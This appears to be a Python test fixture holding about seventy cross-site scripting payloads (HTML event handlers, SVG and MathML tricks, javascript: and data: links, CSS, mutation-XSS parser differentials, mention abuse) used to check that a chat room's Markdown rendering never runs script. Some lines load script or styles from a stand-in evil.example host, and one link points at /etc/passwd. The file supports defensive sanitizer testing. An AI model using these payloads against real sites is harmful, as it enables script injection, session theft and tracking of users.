"""Messages that try to run script or style through the room's Markdown rendering.

Each one calls ``alert`` (a dialog the test listens for) or ``xss()`` (a function the test
defines on the page) if it ever runs. Gathered by kind: raw HTML and event handlers, SVG and
MathML, ``javascript:``/``data:``/``vbscript:`` links in every Markdown spelling, CSS,
mutation XSS (parser differentials that DOMPurify's own tests keep), nested Markdown and HTML,
and mention tokens abused. ``{me}`` is replaced by the reader's id (a real mention).
"""

from __future__ import annotations

_HTML = [
    "<script>xss(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=xss(2)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=javascript:alert('XSS')>",
    "<img src=`javascript:alert(1)`>",
    "<body onload=xss(3)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.xss(4)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<input autofocus onfocus=xss(5)>",
    "<select autofocus onfocus=xss(6)></select>",
    "<textarea autofocus onfocus=xss(7)></textarea>",
    "<details open ontoggle=xss(8)>",
    "<video><source onerror=xss(9)></video>",
    "<audio src=x onerror=xss(10)>",
    "<marquee onstart=xss(11)>x</marquee>",
    '<a href="javascript:alert(1)">click</a>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
    '<div onmouseover="xss(12)" style="position:fixed;inset:0">hover</div>',
    '<p title="</p><img src=x onerror=xss(13)>">',
    "<<script>xss(14)//<</script>",
    "<scr<script>ipt>xss(15)</scr</script>ipt>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img/src/onerror=xss(16)>",
    '<img src="x" onerror="&#x61;lert(1)">',
    "<isindex type=image src=1 onerror=xss(17)>",
    "<template><img src=x onerror=xss(18)></template>",
    '<noscript><p title="</noscript><img src=x onerror=xss(19)>"></noscript>',
    "<!--<img src=x onerror=xss(20)>-->",
    "<![CDATA[<img src=x onerror=xss(21)>]]>",
    "<x onclick=xss(22)>click me</x>",
    '<a id="x" tabindex="1" onfocus="xss(23)"></a>',
]

_SVG_MATH = [
    "<svg onload=xss(24)>",
    "<svg><script>xss(25)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=xss(26) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
    "<svg><foreignObject><img src=x onerror=xss(27)></foreignObject></svg>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    '<math href="javascript:alert(1)">CLICK</math>',
    "<svg><style>@import 'https://evil.example/x.css';</style></svg>",
]

_LINKS = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](javascript%3Aalert(1))",
    "[click]( javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](java\tscript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](DATA:text/html,<script>alert(1)</script>)",
    "[click](file:///etc/passwd)",
    "[click](//evil.example/x)",
    "[click](/\\evil.example/x)",
    '[click](https://ok.example "title" onclick="xss(28)")',
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    '[click][ref]\n\n[ref]: javascript:alert(1) "t"',
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "![img](javascript:alert(1))",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![img](https://evil.example/track.png)",
    '![img](x" onerror="xss(29))',
    "![img](/x onerror=xss(30))",
    "[![img](javascript:alert(1))](javascript:alert(1))",
    "[a](javascript:/**/alert(1))",
    "[a](javascript://%0aalert(1))",
    "[a](jav&#x09;ascript:alert(1))",
    "[a](\\javascript:alert(1))",
    "[a](https://ok.example/<script>xss(31)</script>)",
    "https://ok.example/?q=<img src=x onerror=xss(32)>",
    'www.ok.example/"><img src=x onerror=xss(33)>',
    "[a](mailto:x@ok.example?body=<script>xss(34)</script>)",
]

_CSS = [
    '<style>body{background:url("javascript:alert(1)")}</style>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="background-image:url(javascript:alert(1))">bg</div>',
    '<div style="width:expression(alert(1))">ie</div>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%" onclick="xss(35)">x</p>',
    '<span class="mention me" style="color:red">@admin</span>',
    "| a | b |\n|:-:|--:|\n| <style>*{x:y}</style> | `x` |",
]

_MUTATION = [
    '<svg></p><style><a id="</style><img src=1 onerror=xss(36)>">',
    '<svg><p><style><a id="</style><img src=1 onerror=xss(37)>"></p></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    'onerror=xss(38)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss(39)>",
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=xss(40) src=1>">',
    "<noscript><style></noscript><img src=x onerror=xss(41)></style></noscript>",
    '<svg><![CDATA[><image xlink:href="]]><img src=xx:x onerror=xss(42)//"></svg>',
    "<listing>&lt;img src=x onerror=xss(43)&gt;</listing>",
    "<xmp><img src=x onerror=xss(44)></xmp>",
    "<title><img src=x onerror=xss(45)></title>",
    "<table><td><svg><foreignObject><p><style><img src=x onerror=xss(46)>",
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
    '&#0000049&#0000041">x</a>',
]

_NESTED = [
    "**<img src=x onerror=xss(47)>**",
    "_<svg onload=xss(48)>_",
    "`<script>xss(49)</script>`",
    "```html\n<script>xss(50)</script>\n```",
    "```javascript\nalert(1)</code><img src=x onerror=xss(51)>\n```",
    '```"><img src=x onerror=xss(52)>\ncode\n```',
    "> <img src=x onerror=xss(53)>\n> > [a](javascript:alert(1))",
    "- [ ] <img src=x onerror=xss(54)>\n- [x] [a](javascript:alert(1))",
    "| h |\n|---|\n| <img src=x onerror=xss(55)> |",
    "[<img src=x onerror=xss(56)>](https://ok.example)",
    "[**x**](javascript:alert(1))",
    "# <script>xss(57)</script>",
    "Setext <img src=x onerror=xss(58)>\n===",
    "    <img src=x onerror=xss(59)>",
    "~~<img src=x onerror=xss(60)>~~",
    "<div>\n\n[a](javascript:alert(1))\n\n</div>",
    "[a](https://ok.example)<img src=x onerror=xss(61)>",
    "\\<img src=x onerror=xss(62)>",
    "&lt;img src=x onerror=xss(63)&gt;",
    "&#60;img src=x onerror=xss(64)&#62;",
    "[a](https://ok.example 'x\" onmouseover=\"xss(65)')",
    "*[a](javascript:alert(1))*",
    "1. <iframe src=javascript:alert(1)>\n2. ok",
    "<details><summary>x</summary>[a](javascript:alert(1))</details>",
    "[a]: https://ok.example\n[a]",
]

_MENTIONS = [
    "@[[{me}]]<img src=x onerror=xss(66)>",
    '@[["><img src=x onerror=xss(67)>]]',
    "[@[[{me}]]](javascript:alert(1))",
    "@[[{me}]](javascript:alert(1))",
    "@[[<script>xss(68)</script>]]",
    "**@[[{me}]]** `@[[{me}]]` [x](https://ok.example)",
    "@[[x onmouseover=xss(69)]]",
]

PAYLOADS: list[str] = _HTML + _SVG_MATH + _LINKS + _CSS + _MUTATION + _NESTED + _MENTIONS
"""Every payload, in the order the test posts them."""
